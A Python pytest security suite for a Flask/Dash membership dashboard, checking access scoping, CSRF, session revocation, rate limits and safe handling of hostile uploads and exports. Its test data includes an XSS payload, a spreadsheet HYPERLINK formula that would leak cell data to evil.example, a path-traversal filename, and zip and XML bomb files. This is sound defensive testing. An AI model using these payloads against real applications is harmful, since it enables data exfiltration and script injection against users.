"""The attack suite: the app served by ``gunicorn -w 2 app:server`` on a free port, spoken to over real HTTP.

The store (SQLite file, or a PostgreSQL schema) holds a province committee (KHOI) with two sibling
districts: HA (A1, A2 and two organizations with hostile names) and HB (B1, B2), quarter 2024-Q1.
Users: an admin, an editor and a viewer of HA, an editor and a viewer of HB. Every attack asserts that it
was refused (status and a clear message), that the access log recorded it, and that no stored figure
changed.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from sqlalchemy import func, select, text

from dashboard.store import db
from dashboard.store.schema import access_log, audit_log, facts, import_batches, organizations
from tests import auth, badfiles, data_page
from tests.builders import simple_report
from tests.conftest import pg_schema, postgres_url
from tests.servers import WebServer
from tests.stores import province_store

ROOT = Path(__file__).resolve().parents[1]
HEADER = ("STT", "Mã TCCS", "Tên tổ chức cơ sở đảng", "Loại hình", "Tổng số đảng viên", "Đảng viên nữ", "Kết nạp")
XSS = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
# 2024-Q1: HA's organizations 100 + 60 + 7 + 5 = 172 members, HB's 50 + 30 = 80
Q1 = [[1, "A1", "Đảng bộ Sở Tài chính", "CQHC", 100, 40, 2], [2, "A2", "Chi bộ Trường A", "DVSN", 60, 30, 1],
      [3, "XSS", XSS, "CQHC", 7, 3, 0], [4, "FX", "Chi bộ FX", "CQHC", 5, 2, 0],  # matched by code
      [5, "B1", "Đảng bộ Công ty Điện lực", "DNNN", 50, 10, 1], [6, "B2", "Chi bộ Xã B", "CQHC", 30, 12, 0]]
MEMBERS_A, MEMBERS_B = 172, 80


def report(title: str, rows: list) -> bytes:
    return simple_report(title, rows, header=HEADER)


def seed(url: str) -> None:
    province_store(url, ("q1.xlsx", report("BÁO CÁO QUÝ I NĂM 2024", Q1)),
                   {("HA", "Huyện A"): [("A1", Q1[0][2]), ("A2", Q1[1][2]), ("XSS", XSS), ("FX", FORMULA)],
                    ("HB", "Huyện B"): [("B1", Q1[4][2]), ("B2", Q1[5][2])]},
                   [("admin", "admin", None), ("editor_a", "editor", ["HA"]), ("viewer_a", "viewer", ["HA"]),
                    ("editor_b", "editor", ["HB"]), ("viewer_b", "viewer", ["HB"]),
                    ("viewer_c", "viewer", ["HB"])])  # viewer_c changes its password in a test


class Server(WebServer):
    """gunicorn with two workers on a store (tests/servers.py); stopped with the fixture."""

    def __init__(self, url: str, folder: Path, **env: str) -> None:
        self.url = url
        super().__init__(url, folder, workers=2, **{"MAX_UPLOAD_MB": "8", "PARSE_TIMEOUT": "60",
                                                     "SNAPSHOT_CACHE_DIR": "", **env})


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def server(request, tmp_path_factory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("security")
    with contextlib.ExitStack() as stack:
        if request.param == "sqlite":
            url = f"sqlite:///{folder / 'store.sqlite3'}"
        else:
            base = postgres_url()
            if base is None:
                pytest.skip("TEST_DATABASE_URL is not set (CI sets it)")
            url = stack.enter_context(pg_schema(base))
        seed(url)
        srv = Server(url, folder)
        srv.engine = db.make_engine(url)  # type: ignore[attr-defined]
        yield srv
        srv.stop()
        srv.engine.dispose()  # type: ignore[attr-defined]


@pytest.fixture(scope="module")
def sessions(server) -> dict[str, requests.Session]:
    return {name: auth.login_session(server.base, name) for name in
            ("admin", "editor_a", "viewer_a", "editor_b", "viewer_b")}


@pytest.fixture(scope="module")
def deps(server, sessions) -> list[dict]:
    return sessions["admin"].get(server.base + "/_dash-dependencies", timeout=30).json()


def state_of(engine) -> tuple:
    """Everything an attack must leave as it was: the data version, facts, organizations, imports."""
    with engine.connect() as conn:
        return (conn.execute(select(func.max(audit_log.c.id))).scalar_one(),
                conn.execute(select(func.count()).select_from(facts)).scalar_one(),
                conn.execute(select(func.count()).select_from(organizations)).scalar_one(),
                tuple(conn.execute(select(import_batches.c.id, import_batches.c.status)
                                   .order_by(import_batches.c.id)).all()))


def last_access(engine, after: int) -> list[dict]:
    with engine.connect() as conn:
        return [dict(r) for r in conn.execute(select(access_log).where(access_log.c.id > after)
                                              .order_by(access_log.c.id)).mappings()]


def access_mark(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.coalesce(func.max(access_log.c.id), 0))).scalar_one()


def body_for(deps: list[dict], output_prefix: str, inputs: list[dict], state: list[dict] | None = None) -> dict:
    dep = next(d for d in deps if d["output"].lstrip(".").startswith(output_prefix))
    outputs = [{"id": o.split(".")[0], "property": o.split(".")[1]} for o in dep["output"].strip(".").split("...")]
    return {"output": dep["output"], "outputs": outputs if dep["output"].startswith("..") else outputs[0],
            "inputs": inputs, "state": state or [], "changedPropIds": [f"{inputs[0]['id']}.{inputs[0]['property']}"]}


def post(http, server, deps, output_prefix, inputs, state=None) -> requests.Response:
    return http.post(server.base + "/_dash-update-component", json=body_for(deps, output_prefix, inputs, state),
                     timeout=120)


def url(search: str) -> list[dict]:
    return [{"id": "shell-url", "property": "search", "value": search}]


def upload_inputs(data: bytes, name: str, create: bool = False) -> tuple[list[dict], list[dict]]:
    contents = "data:application/octet-stream;base64," + base64.b64encode(data).decode()
    return ([{"id": "data-upload", "property": "contents", "value": contents},
             {"id": "data-create-orgs", "property": "value", "value": ["yes"] if create else []},
             {"id": "data-accept-warnings", "property": "value", "value": []}],
            [{"id": "data-upload", "property": "filename", "value": name}, *url("")])


def check_upload(http, server, deps, data: bytes, name: str, create: bool = False) -> dict:
    """The Data page's check to its end (the hand-over in the request, then the background job)."""
    return data_page.check(data_page.http_sender(http, server.base), deps, data, name, create=create)


def confirm_upload(http, server, deps, pending) -> tuple[int, dict]:
    return data_page.confirm(data_page.http_sender(http, server.base), deps, pending)


def grid_rows(http, server, deps, search: str) -> list[dict]:
    """The organizations table's rows as the grid asks the server for them (the request is the client's)."""
    box = post(http, server, deps, "org-grid-box", [*url(search), {"id": "org-search", "property": "value",
                                                                  "value": ""}]).json()["response"]
    grid = box["org-grid-box"]["children"]["props"]
    ask = {"startRow": 0, "endRow": 50, "sortModel": [], "filterModel": {},
           "context": grid["dashGridOptions"]["context"]}
    out = post(http, server, deps, "org-grid.getRowsResponse",
               [{"id": "org-grid", "property": "getRowsRequest", "value": ask}]).json()["response"]
    forged = {**ask, "context": {**ask["context"], "search": "?period=2024-Q1&org=HA"}}
    again = post(http, server, deps, "org-grid.getRowsResponse",
                 [{"id": "org-grid", "property": "getRowsRequest", "value": forged}]).json()["response"]
    return out["org-grid"]["getRowsResponse"]["rowData"] + again["org-grid"]["getRowsResponse"]["rowData"]


def url_map() -> list[tuple[str, list[str]]]:
    """Every rule of the app's Flask URL map (built in a child process: one Dash app per process)."""
    code = ("import json, tempfile; from dashboard.store import db; from dashboard.web.app import create_app; "
            "d = tempfile.mkdtemp(); app = create_app(db.make_engine(f'sqlite:///{d}/s.sqlite3'), sample_data=False); "
            "print(json.dumps([[r.rule, sorted(r.methods - {'HEAD', 'OPTIONS'})] "
            "for r in app.server.url_map.iter_rules()]))")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SECRET_KEY": "x" * 64}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, env=env, check=True)
    return [tuple(r) for r in json.loads(out.stdout.strip().splitlines()[-1])]


PUBLIC = re.compile(r"^/(dang-nhap|thiet-lap|_favicon\.ico|healthz|assets/.*|_dash-component-suites/.*)$")


# --- 1. nothing without a session ----------------------------------------------------------------
def test_sec001_every_route_refuses_an_anonymous_request(server):
    before, mark = state_of(server.engine), access_mark(server.engine)
    rules = url_map()
    assert any(rule == "/_dash-update-component" for rule, _ in rules) and len(rules) > 10
    checked = 0
    for rule, methods in rules:
        path = re.sub(r"<[^>]+>", "x", rule)
        if PUBLIC.match(path):
            continue
        for method in methods:
            response = requests.request(method, server.base + path, json={}, allow_redirects=False, timeout=30,
                                        headers={"Accept": "text/html"})
            checked += 1
            if response.status_code == 302:
                assert response.headers["Location"].startswith("/dang-nhap?next="), (method, path)
            else:
                assert response.status_code == 401, (method, path, response.status_code)
                assert response.json()["error"]["message_en"] == "Sign-in required.", (method, path)
    denied = [e for e in last_access(server.engine, mark) if e["action"] == "denied"]
    assert len(denied) == checked
    assert state_of(server.engine) == before


def test_sec002_every_callback_refuses_an_anonymous_request(server, deps):
    before, mark = state_of(server.engine), access_mark(server.engine)
    for dep in deps:
        inputs = [{"id": i["id"], "property": i["property"], "value": None} for i in dep["inputs"]]
        body = {"output": dep["output"], "outputs": [], "inputs": inputs, "state": [], "changedPropIds": []}
        response = requests.post(server.base + "/_dash-update-component", json=body, timeout=30)
        assert response.status_code == 401, dep["output"]
    assert len(last_access(server.engine, mark)) == len(deps)
    assert state_of(server.engine) == before


@pytest.mark.parametrize("relabel", [{"id": "shell-url", "property": "pathname", "value": "/dang-nhap"},
                                     {"id": "shell-url", "property": "pathname", "value": "/_favicon.ico"},
                                     {"id": "_pages_location", "property": "pathname", "value": "/assets/x"}])
def test_sec003_a_relabelled_input_does_not_open_a_callback(server, deps, relabel):
    body = body_for(deps, "ovw-cards", [relabel, *url("?period=2024-Q1")])
    response = requests.post(server.base + "/_dash-update-component", json=body, timeout=30)
    assert response.status_code == 401
    assert "172" not in response.text and str(MEMBERS_A + MEMBERS_B) not in response.text


# --- 2. each user sees their subtree only --------------------------------------------------------
@pytest.mark.parametrize(("user", "own", "other"), [("viewer_a", MEMBERS_A, MEMBERS_B),
                                                     ("viewer_b", MEMBERS_B, MEMBERS_A)])
def test_sec004_api_answers_within_the_users_scope_only(server, sessions, user, own, other):
    http = sessions[user]
    summary = http.get(server.base + "/api/v1/summary?period=2024-Q1", timeout=30).json()
    assert summary["totals"]["members_total"] == own
    other_code = "HB" if user == "viewer_a" else "HA"
    refused = http.get(server.base + f"/api/v1/summary?period=2024-Q1&org={other_code}", timeout=30)
    assert refused.status_code == 404 and refused.json()["error"]["code"] == "org_unknown"
    codes = {o["code"] for o in http.get(server.base + "/api/v1/organizations?period=2024-Q1", timeout=30)
             .json()["organizations"]}
    assert codes == ({"A1", "A2", "XSS", "FX"} if user == "viewer_a" else {"B1", "B2"})
    csv_text = http.get(server.base + "/api/v1/organizations?period=2024-Q1&format=csv", timeout=30).text
    assert ("Công ty Điện lực" in csv_text) == (user == "viewer_b")


def test_sec005_crafted_callbacks_cannot_read_a_sibling_subtree(server, sessions, deps):
    http = sessions["viewer_b"]
    for search in ("?period=2024-Q1", "?period=2024-Q1&org=HA", "?period=2024-Q1&org=A1", "?period=2024-Q1&org=KHOI"):
        response = post(http, server, deps, "ovw-cards", url(search))
        assert response.status_code == 200
        cards = json.dumps(response.json()["response"]["ovw-cards"], ensure_ascii=False)
        assert str(MEMBERS_B) in cards and str(MEMBERS_A) not in cards and "252" not in cards, search
    codes = {r["code"] for r in grid_rows(http, server, deps, "?period=2024-Q1&org=HA")}
    assert codes and codes <= {"HB", "B1", "B2"}
    dep = next(d for d in deps if "filter-org.options" in d["output"])  # the URL ↔ filters callback
    values = {"shell-url.search": "?org=HA", "shell-lang.value": "vi"}
    inputs = [{"id": i["id"], "property": i["property"], "value": values.get(f"{i['id']}.{i['property']}")}
              for i in dep["inputs"]]
    out = post(http, server, [dep], dep["output"].lstrip("."), inputs).json()["response"]
    labels = json.dumps(out["filter-org"]["options"], ensure_ascii=False)
    assert "Huyện A" not in labels and "Đảng bộ Tỉnh" not in labels and out["filter-org"]["value"] is None


def test_sec006_imports_list_and_completeness_are_scoped(server, sessions, deps):
    before = state_of(server.engine)
    inputs = [*url("?period=2024-Q1"), {"id": "data-result", "property": "children", "value": None},
              {"id": "data-rollback-done", "property": "children", "value": None}]
    out = post(sessions["viewer_b"], server, deps, "data-batches", inputs).json()["response"]
    text_out = json.dumps(out, ensure_ascii=False)
    assert "q1.xlsx" not in text_out  # the seed import touched both districts
    assert "Chi bộ Xã B" in text_out or "2/2" in text_out
    assert "Chi bộ Trường A" not in text_out
    assert state_of(server.engine) == before


# --- 3. editors change their subtree only --------------------------------------------------------
def test_sec007_an_editor_cannot_import_rows_outside_their_scope(server, sessions, deps):
    before = state_of(server.engine)
    rows = [[1, "A1", Q1[0][2], "CQHC", 101, 40, 2], [2, "B1", Q1[4][2], "DNNN", 999, 10, 1]]
    out = check_upload(sessions["editor_a"], server, deps, report("BÁO CÁO QUÝ II NĂM 2024", rows), "q2.xlsx")
    text_out = json.dumps(out["data-report"], ensure_ascii=False)
    assert "không thuộc phạm vi" in text_out and "B1" in text_out
    assert out["data-pending"]["data"] is None and out["data-confirm"]["disabled"] is True
    # a new organization cannot be created outside the scope either: with several subtrees and no parent named,
    # or (one subtree) it lands inside it
    assert state_of(server.engine) == before


def test_sec008_an_editor_cannot_confirm_another_users_upload(server, sessions, deps):
    before = state_of(server.engine)
    rows = [[1, "B1", Q1[4][2], "DNNN", 51, 10, 1], [2, "B2", Q1[5][2], "CQHC", 30, 12, 0]]
    checked = check_upload(sessions["editor_b"], server, deps, report("BÁO CÁO QUÝ II NĂM 2024", rows), "b.xlsx")
    pending = checked["data-pending"]["data"]
    assert pending and checked["data-confirm"]["disabled"] is False
    status, _ = confirm_upload(sessions["editor_a"], server, deps, pending)
    assert status == 204  # nothing to do: the token is not theirs
    mark = access_mark(server.engine)
    status, viewer = confirm_upload(sessions["viewer_b"], server, deps, pending)
    assert status == 200 and "chỉ được xem" in json.dumps(viewer, ensure_ascii=False)
    assert any(e["action"] == "denied" and e["actor"] == "viewer_b" for e in last_access(server.engine, mark))
    assert state_of(server.engine) == before


def test_sec009_rollbacks_outside_the_scope_and_by_viewers_are_refused(server, sessions, deps):
    before, mark = state_of(server.engine), access_mark(server.engine)
    with server.engine.connect() as conn:
        seed_batch = conn.execute(select(func.min(import_batches.c.id))).scalar_one()
    yes = [{"id": "data-rollback-yes", "property": "n_clicks", "value": 1}]
    state = [{"id": "data-rollback-target", "property": "data", "value": seed_batch}, *url("")]
    out = post(sessions["editor_a"], server, deps, "data-rollback-done", yes, state).json()["response"]
    assert "ngoài phạm vi" in json.dumps(out, ensure_ascii=False)
    out = post(sessions["viewer_a"], server, deps, "data-rollback-done", yes, state).json()["response"]
    assert "chỉ được xem" in json.dumps(out, ensure_ascii=False)
    entries = last_access(server.engine, mark)
    assert {(e["actor"], e["action"]) for e in entries} >= {("editor_a", "rollback_refused"), ("viewer_a", "denied")}
    assert state_of(server.engine) == before


def test_sec010_an_editor_imports_and_rolls_back_inside_their_scope(server, sessions, deps):
    """The positive case, so the refusals above are not a page that refuses everything."""
    rows = [[1, "A1", Q1[0][2], "CQHC", 101, 40, 2], [2, "A2", Q1[1][2], "DVSN", 60, 30, 1]]
    checked = check_upload(sessions["editor_a"], server, deps, report("BÁO CÁO QUÝ II NĂM 2024", rows), "qa.xlsx")
    _, done = confirm_upload(sessions["editor_a"], server, deps, checked["data-pending"]["data"])
    assert "lần nhập số" in json.dumps(done, ensure_ascii=False)
    with server.engine.connect() as conn:
        batch = conn.execute(select(import_batches).order_by(import_batches.c.id.desc())).mappings().first()
    assert batch["created_by"] == "editor_a" and batch["file_name"] == "qa.xlsx"
    assert sessions["viewer_b"].get(server.base + "/api/v1/summary?period=2024-Q2", timeout=30).json()[
        "organizations"] == 0
    out = post(sessions["editor_a"], server, deps, "data-rollback-done",
               [{"id": "data-rollback-yes", "property": "n_clicks", "value": 1}],
               [{"id": "data-rollback-target", "property": "data", "value": batch["id"]}, *url("")]).json()
    assert "hoàn tác" in json.dumps(out, ensure_ascii=False).lower()
    with server.engine.connect() as conn:
        assert conn.execute(select(import_batches.c.status).where(import_batches.c.id == batch["id"])).scalar_one() \
            == "rolled_back"


# --- 4. bad files --------------------------------------------------------------------------------
def macro_workbook() -> bytes:
    """A real report with a VBA project added (calamine reads values only: the macro never runs)."""
    source = zipfile.ZipFile(io.BytesIO(report("BÁO CÁO QUÝ III NĂM 2024", [Q1[0]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
                data = data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                                                 b'vnd.ms-office.vbaProject"/></Types>')
            target.writestr(item, data)
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + os.urandom(2048))
    return out.getvalue()


BAD_FILES = {
    "zip_bomb.xlsx": lambda: badfiles.zip_bomb(),
    "billion_laughs.xlsx": badfiles.billion_laughs_sst,
    "external_entity.xlsx": badfiles.doctype_in_sheet,
    "encrypted.xlsx": badfiles.encrypted_xlsx,
    "lying_header.xlsx": lambda: badfiles.lying_bomb(),
    "cell_200mb.xlsx": lambda: badfiles.shared_string_bomb(cells=1, length=200_000_000),
    "not_a_sheet.xlsx": badfiles.pdf,
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_sec011_malicious_files_are_refused_with_a_message(server, sessions, deps, name):
    before, mark = state_of(server.engine), access_mark(server.engine)
    started = time.perf_counter()
    out = check_upload(sessions["editor_a"], server, deps, BAD_FILES[name](), name)
    assert time.perf_counter() - started < 60
    alert = out["data-report"]["children"]
    assert alert["type"] == "Alert" and alert["props"]["color"] == "danger" and len(alert["props"]["children"]) > 20
    assert out["data-pending"]["data"] is None
    entries = last_access(server.engine, mark)
    assert [(e["actor"], e["action"], e["target"]) for e in entries] == [("editor_a", "upload_refused", name)]
    assert state_of(server.engine) == before


def test_sec012_a_macro_workbook_is_read_for_its_values_only(server, sessions, deps):
    before = state_of(server.engine)
    out = check_upload(sessions["editor_a"], server, deps, macro_workbook(), "macro.xlsm")
    assert "1 tổ chức" in json.dumps(out["data-report"], ensure_ascii=False) or out["data-pending"]["data"]
    assert state_of(server.engine) == before  # a dry run: nothing stored until confirmed


def test_sec013_an_upload_over_the_size_cap_is_refused_before_decoding(server, sessions, deps):
    before, mark = state_of(server.engine), access_mark(server.engine)
    inputs, state = upload_inputs(os.urandom(9 * 1024 * 1024), "big.xlsx")  # MAX_UPLOAD_MB is 8
    response = post(sessions["editor_a"], server, deps, "data-report", inputs, state)
    assert response.status_code == 413 and "8 MB" in response.json()["error"]["message_vi"]
    assert [e["action"] for e in last_access(server.engine, mark)] == ["denied"]
    out = check_upload(sessions["editor_a"], server, deps, os.urandom(int(8.5 * 1024 * 1024)), "big.xlsx")  # over 8 MB
    assert "tối đa 8 MB" in json.dumps(out["data-report"], ensure_ascii=False)
    assert state_of(server.engine) == before


def test_sec014_a_file_named_with_folders_is_stored_by_its_name_only(server, sessions, deps, tmp_path):
    rows = [[1, "A2", Q1[1][2], "DVSN", 61, 30, 1]]
    checked = check_upload(sessions["editor_a"], server, deps, report("BÁO CÁO QUÝ IV NĂM 2024", rows), "../../x.xlsx")
    assert checked["data-pending"]["data"]["name"] == "x.xlsx"
    assert not (ROOT.parent / "x.xlsx").exists()


# --- 5. sessions, tokens, CSRF, brute force ------------------------------------------------------
def test_sec015_logout_and_password_change_revoke_a_copied_cookie(server):
    http = auth.login_session(server.base, "viewer_b")
    stolen = requests.Session()
    stolen.cookies.update(http.cookies)
    assert stolen.get(server.base + "/api/v1/periods", timeout=30).status_code == 200
    http.post(server.base + "/dang-xuat", data={"csrf_token": auth.csrf_field(
        http.get(server.base + "/tai-khoan", timeout=30).text)}, timeout=30)
    assert stolen.get(server.base + "/api/v1/periods", timeout=30).status_code == 401
    http = auth.login_session(server.base, "viewer_c")
    stolen = requests.Session()
    stolen.cookies.update(http.cookies)
    page = http.get(server.base + "/tai-khoan", timeout=30).text
    new = "mat-khau-moi-cua-c-2"
    changed = http.post(server.base + "/tai-khoan", data={"do": "password", "current": auth.PASSWORD, "new": new,
                                                          "new2": new, "csrf_token": auth.csrf_field(page)}, timeout=30)
    assert changed.status_code == 200 and "Đã đổi mật khẩu" in changed.text
    assert stolen.get(server.base + "/api/v1/periods", timeout=30).status_code == 401
    assert http.get(server.base + "/api/v1/periods", timeout=30).status_code == 200  # this browser stays in


def test_sec016_api_tokens_are_scoped_read_only_and_revocable(server, sessions):
    http = sessions["viewer_b"]
    page = http.get(server.base + "/tai-khoan", timeout=30).text
    created = http.post(server.base + "/tai-khoan", data={"do": "token", "label": "Power Query",
                                                          "csrf_token": auth.csrf_field(page)}, timeout=30)
    token = re.search(r'id="new-token">(tk_[^<]+)<', created.text).group(1)
    bearer = {"Authorization": f"Bearer {token}"}
    summary = requests.get(server.base + "/api/v1/summary?period=2024-Q1", headers=bearer, timeout=30).json()
    assert summary["totals"]["members_total"] == MEMBERS_B
    assert requests.get(server.base + "/_dash-layout", headers=bearer, timeout=30).status_code == 401
    assert requests.post(server.base + "/_dash-update-component", json={}, headers=bearer,
                         timeout=30).status_code == 401
    token_id = re.findall(r'name="token_id" value="(\d+)"', created.text)[-1]
    other = sessions["viewer_a"]
    refused = other.post(server.base + "/tai-khoan", data={"do": "revoke", "token_id": token_id, "csrf_token":
                                                           auth.csrf_field(other.get(server.base + "/tai-khoan").text)})
    assert refused.status_code == 403
    http.post(server.base + "/tai-khoan", data={"do": "revoke", "token_id": token_id,
                                                "csrf_token": auth.csrf_field(created.text)}, timeout=30)
    assert requests.get(server.base + "/api/v1/periods", headers=bearer, timeout=30).status_code == 401


def test_sec017_a_callback_without_the_csrf_token_is_refused(server, sessions, deps):
    mark = access_mark(server.engine)
    http = requests.Session()
    http.cookies.update(sessions["viewer_b"].cookies)  # signed in, but a forged request has no X-CSRFToken
    response = post(http, server, deps, "ovw-cards", url("?period=2024-Q1"))
    assert response.status_code == 400 and response.json()["error"]["code"] == "csrf"
    assert [e["action"] for e in last_access(server.engine, mark)] == ["denied"]


def test_sec018_unknown_user_and_wrong_password_get_the_same_answer_and_a_lockout(server):
    mark = access_mark(server.engine)
    answers = []
    for name in ("nobody", "editor_b"):
        http = requests.Session()
        page = http.get(server.base + "/dang-nhap", timeout=30).text
        started = time.perf_counter()
        response = http.post(server.base + "/dang-nhap", data={"name": name, "password": "wrong-password-1",
                                                               "csrf_token": auth.csrf_field(page)}, timeout=30)
        answers.append((response.status_code, re.sub(r'value="[^"]*"', "", response.text),
                        time.perf_counter() - started))
    assert answers[0][:2] == answers[1][:2] and answers[0][0] == 401
    assert 0.33 < answers[0][2] / answers[1][2] < 3
    for _ in range(4):  # LOGIN_MAX_FAILURES is 5: the account is now locked, even for the right password
        http = requests.Session()
        page = http.get(server.base + "/dang-nhap", timeout=30).text
        http.post(server.base + "/dang-nhap", data={"name": "editor_b", "password": "wrong-password-1",
                                                    "csrf_token": auth.csrf_field(page)}, timeout=30)
    with pytest.raises(AssertionError):
        auth.login_session(server.base, "editor_b")
    reasons = [json.loads(e["details"]).get("reason") for e in last_access(server.engine, mark)
               if e["action"] == "login_failed"]
    assert reasons[:2] == ["unknown_user", "wrong_password"] and reasons[-1] == "locked"
    with server.engine.begin() as conn:
        conn.execute(text("UPDATE users SET locked_until = NULL, failed_logins = 0 WHERE name = 'editor_b'"))


# --- 6. output that cannot be turned against its reader -------------------------------------------
def test_sec019_formula_injection_is_neutralized_in_csv_downloads(server, sessions):
    http = sessions["admin"]
    csv_text = http.get(server.base + "/api/v1/organizations?period=2024-Q1&format=csv", timeout=30).text
    assert "'" + FORMULA.replace('"', '""') in csv_text and "\n" + FORMULA not in csv_text
    response = http.get(server.base + "/api/v1/organizations?period=2024-Q1&format=csv", timeout=30)
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    audit_csv = http.get(server.base + "/quan-tri/nhat-ky.csv", timeout=30)
    assert audit_csv.status_code == 200 and "download" in audit_csv.text


def test_sec020_hostile_names_come_back_as_text_in_callbacks(server, sessions, deps):
    names = [r["name"] for r in grid_rows(sessions["admin"], server, deps, "?period=2024-Q1&org=HA")]
    assert XSS in names  # as data, for AG Grid's text cells
    box = post(sessions["admin"], server, deps, "org-grid-box", [*url("?period=2024-Q1&org=HA"), {
        "id": "org-search", "property": "value", "value": ""}]).json()["response"]
    assert "dangerously_allow_html" not in json.dumps(box) and '"cellRenderer"' not in json.dumps(box)
    tree = post(sessions["admin"], server, deps, "org-tree", url("?period=2024-Q1&org=HA")).json()["response"]
    assert "dangerously_allow_html" not in json.dumps(tree)


def test_sec021_headers_cookies_and_no_debug_or_mcp(server, sessions):
    response = sessions["admin"].get(server.base + "/", timeout=30)
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self' 'sha256-" in csp and "unsafe-eval" not in csp and "frame-ancestors 'none'" in csp
    assert response.headers["X-Frame-Options"] == "DENY" and response.headers["X-Content-Type-Options"] == "nosniff"
    login = requests.get(server.base + "/dang-nhap", timeout=30)
    cookie = login.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    mcp = sessions["admin"].post(server.base + "/_mcp", json={"jsonrpc": "2.0", "id": 1, "method": "tools/list"},
                                 timeout=30)
    assert mcp.status_code in (404, 405) and "jsonrpc" not in mcp.text
    assert "Traceback" not in sessions["admin"].get(server.base + "/_dash-layout", timeout=30).text
    assert sessions["viewer_b"].get(server.base + "/quan-tri", timeout=30).status_code == 403


def test_sec022_admin_sees_the_audit_log(server, sessions):
    page = sessions["admin"].get(server.base + "/quan-tri", timeout=30)
    assert page.status_code == 200
    for action in ("login", "denied", "import", "rollback", "upload_refused", "login_failed"):
        assert f"<td>{action}</td>" in page.text, action
    assert XSS not in page.text  # escaped wherever it appears


# --- 7. brute force against two workers sharing one counter --------------------------------------
def test_sec023_the_login_rate_limit_is_shared_by_the_workers(tmp_path):
    redis_url = os.environ.get("TEST_REDIS_URL")
    folder = tmp_path
    store_url = f"sqlite:///{folder / 'store.sqlite3'}"
    engine = db.make_engine(store_url)
    db.upgrade(engine)
    auth.create_user(engine, "admin", "admin")
    env = {"LOGIN_RATE_LIMIT": "6 per minute"}
    if redis_url:
        import redis

        client = redis.Redis.from_url(redis_url)
        for key in client.scan_iter("LIMITS*"):
            client.delete(key)
        env["REDIS_URL"] = redis_url
    srv = Server(store_url, folder, **env)
    try:
        statuses = []
        for _ in range(14):
            http = requests.Session()
            page = http.get(srv.base + "/dang-nhap", timeout=30, headers={"Connection": "close"}).text
            statuses.append(http.post(srv.base + "/dang-nhap", data={"name": "admin", "password": "guess-123456",
                                                                     "csrf_token": auth.csrf_field(page)},
                                      headers={"Connection": "close"}, timeout=30).status_code)
        allowed = statuses.count(401)
        assert set(statuses) == {401, 429}
        # with Redis both workers count together; without it each counts for itself (at most twice the limit)
        assert allowed == 6 if redis_url else 6 <= allowed <= 12, statuses
        with engine.connect() as conn:
            limited = conn.execute(select(func.count()).select_from(access_log).where(
                access_log.c.action == "denied", access_log.c.details.like('%rate_limited%'))).scalar_one()
        assert limited == statuses.count(429)
    finally:
        srv.stop()
        engine.dispose()


def test_sec024_formula_injection_round_trip_through_the_xlsx_and_csv_exports(server, sessions):
    import openpyxl

    before = state_of(server.engine)
    http = sessions["admin"]
    response = http.get(server.base + "/export/table/organizations-tree.xlsx?period=2024-Q1&org=HA", timeout=120)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
    text_csv = http.get(server.base + "/export/table/organizations-tree.csv?period=2024-Q1&org=HA", timeout=120).text
    assert "HYPERLINK" in text_csv and "\n" + FORMULA not in text_csv and "," + FORMULA not in text_csv
    # an export of another subtree by a viewer holds none of it
    other = sessions["viewer_b"].get(server.base + "/export/table/organizations-tree.csv?period=2024-Q1",
                                     timeout=120).text
    assert "HYPERLINK" not in other and "Sở Tài chính" not in other
    assert state_of(server.engine) == before


def test_sec025_hostile_names_render_as_text_in_the_browser(server):
    from playwright.sync_api import expect, sync_playwright

    from tests.test_browser import CHROMIUM, CHROMIUM_ARGS

    if not server.url.startswith("sqlite"):
        pytest.skip("the browser's view does not depend on the store")
    dialogs: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            page = browser.new_context(base_url=server.base, viewport={"width": 1400, "height": 1000}).new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            errors: list[str] = []
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            auth.login_page(page, "admin")
            page.goto("/to-chuc?period=2024-Q1&org=HA")
            grid = page.locator("#org-grid")
            expect(grid).to_contain_text(XSS, timeout=20_000)  # the name shown as its characters
            assert page.locator("#org-grid img").count() == 0
            page.goto("/?period=2024-Q1&org=HA")
            expect(page.locator("#ovw-cards")).to_contain_text("172", timeout=20_000)
            page.wait_for_timeout(500)
            assert page.evaluate("document.querySelectorAll('img[src=x]').length") == 0
            assert not [e for e in errors if "Content Security Policy" in e], errors
        finally:
            browser.close()
    assert dialogs == []
